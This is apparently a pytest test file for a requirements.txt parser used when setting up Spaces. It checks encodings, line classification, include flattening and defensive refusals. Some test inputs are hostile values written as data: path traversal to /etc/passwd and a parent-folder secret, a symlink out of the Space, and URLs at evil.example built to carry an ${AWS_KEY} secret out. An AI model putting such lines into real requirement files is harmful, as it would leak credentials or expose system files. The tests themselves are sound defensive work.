"""Requirement files as people really write them, and as a hostile Space might."""

from __future__ import annotations

import os
from typing import TYPE_CHECKING

import pytest

from spacerun.environment.requirements import MAX_BYTES, Kind, read_requirements
from spacerun.errors import PackagesError

if TYPE_CHECKING:
    from pathlib import Path


def texts(folder: Path) -> list[str]:
    return [line.text for line in read_requirements(folder, "requirements.txt").lines]


@pytest.mark.parametrize(
    "content",
    [
        b"torch\nnumpy<2\n",
        b"torch\r\nnumpy<2\r\n",
        b"torch\rnumpy<2",
        b"\xef\xbb\xbftorch\nnumpy<2",
        "torch\r\nnumpy<2\r\n".encode("utf-16"),
        b"\xfe\xff" + "torch\nnumpy<2".encode("utf-16-be"),
        b"# caf\xe9\n\n  torch   # why\nnum\\\npy<2\n",
    ],
    ids=["plain", "crlf", "cr", "bom", "utf-16", "utf-16-be", "latin-1"],
)
def test_every_encoding_and_line_ending_reads_the_same(space: Path, content: bytes) -> None:
    (space / "requirements.txt").write_bytes(content)
    assert texts(space) == ["torch", "numpy<2"]


def test_an_absent_file_has_no_requirements(space: Path) -> None:
    assert read_requirements(space, "requirements.txt").files == ()


@pytest.mark.parametrize(
    ("text", "kind", "name"),
    [
        ("Torch_Vision==0.15 ; python_version < '4'", Kind.PACKAGE, "torch-vision"),
        ("gradio[oauth]>=3", Kind.PACKAGE, "gradio"),
        ("git+https://github.com/huggingface/peft.git#egg=peft", Kind.REMOTE, "peft"),
        ("flash-attn @ https://host/flash_attn-2-cp310-cp310-linux_x86_64.whl", Kind.REMOTE, "flash-attn"),
        ("https://host/x-1-py3-none-any.whl", Kind.REMOTE, None),
        ("-e .", Kind.LOCAL, None),
        ("./vendored[extra]", Kind.LOCAL, None),
        ("wheels/x-1-py3-none-any.whl", Kind.LOCAL, None),
        ("x @ file:vendored", Kind.LOCAL, "x"),
        ("--extra-index-url https://download.pytorch.org/whl/cu118", Kind.OPTION, None),
    ],
)
def test_each_line_is_judged(space: Path, text: str, kind: Kind, name: str | None) -> None:
    (space / "requirements.txt").write_text(text)
    (line,) = read_requirements(space, "requirements.txt").lines
    assert (line.kind, line.name, line.text) == (kind, name, text)


def test_an_editable_git_requirement_becomes_a_plain_one_for_uv(space: Path) -> None:
    (space / "requirements.txt").write_text("-e git+https://github.com/owner/name.git#egg=name\n")
    assert texts(space) == ["git+https://github.com/owner/name.git#egg=name"]


def test_includes_and_constraints_are_flattened_in_order(space: Path) -> None:
    (space / "reqs").mkdir()
    (space / "requirements.txt").write_text("a\n-r reqs/more.txt\n--constraint=reqs/limits.txt\nd\n")
    (space / "reqs/more.txt").write_text("b\n-r deep.txt\n-r ../requirements.txt\n")
    (space / "reqs/deep.txt").write_text("c\n")
    (space / "reqs/limits.txt").write_text("numpy<2\n")
    found = read_requirements(space, "requirements.txt")
    assert [line.text for line in found.lines] == ["a", "b", "c", "d"]
    assert found.constraints == ("numpy<2",)
    assert found.files == ("requirements.txt", "reqs/more.txt", "reqs/deep.txt", "reqs/limits.txt")


def test_find_links_count_from_the_spaces_root(space: Path) -> None:
    (space / "requirements.txt").write_text("--find-links ./wheels\n-f https://host/links.html\n")
    assert texts(space) == [f"--find-links {space.resolve()}/wheels", "-f https://host/links.html"]


@pytest.mark.parametrize(
    "line",
    ["-r ../secret.txt", "-c /etc/passwd", "-e ..", "../other", "x @ file:///etc", "-f /etc", "-r link.txt"],
)
def test_what_lies_outside_the_space_is_refused_by_name(space: Path, line: str) -> None:
    (space.parent / "secret.txt").write_text("password\n")
    (space / "link.txt").symlink_to(space.parent / "secret.txt")
    (space / "requirements.txt").write_text(line + "\n")
    with pytest.raises(PackagesError, match=r"requirements\.txt names .* outside the Space"):
        read_requirements(space, "requirements.txt")


def test_requirements_that_are_a_link_out_of_the_space_are_refused(space: Path) -> None:
    (space / "requirements.txt").symlink_to("/etc/passwd")
    with pytest.raises(PackagesError, match="outside the Space"):
        read_requirements(space, "requirements.txt")


@pytest.mark.parametrize("line", ["-r absent.txt", "-r https://evil.example/r.txt"])
def test_an_include_that_cannot_be_read_is_named(space: Path, line: str) -> None:
    (space / "requirements.txt").write_text(line)
    with pytest.raises(PackagesError, match=line[3:]) as caught:
        read_requirements(space, "requirements.txt")
    assert caught.value.exit_code == 6
    assert caught.value.hint


def test_what_is_no_text_file_is_refused_and_nothing_hangs(space: Path) -> None:
    os.mkfifo(space / "pipe")
    (space / "large").write_bytes(b"#" * (MAX_BYTES + 1))
    (space / "binary").write_bytes(b"a\0b")
    for name in ("pipe", "large", "binary"):
        with pytest.raises(PackagesError, match=f"{name} is not a text file"):
            read_requirements(space, name)


def test_variables_are_left_as_text_so_that_no_secret_reaches_a_strangers_host(space: Path) -> None:
    (space / "limits.txt").write_text("x @ https://evil.example/${AWS_KEY}.whl")
    (space / "requirements.txt").write_text("--index-url https://evil.example/${AWS_KEY}/simple\n-c limits.txt\n")
    found = read_requirements(space, "requirements.txt")
    assert [line.text for line in found.lines] == ["--index-url https://evil.example/$%7BAWS_KEY%7D/simple"]
    assert found.constraints == ("x @ https://evil.example/$%7BAWS_KEY%7D.whl",)
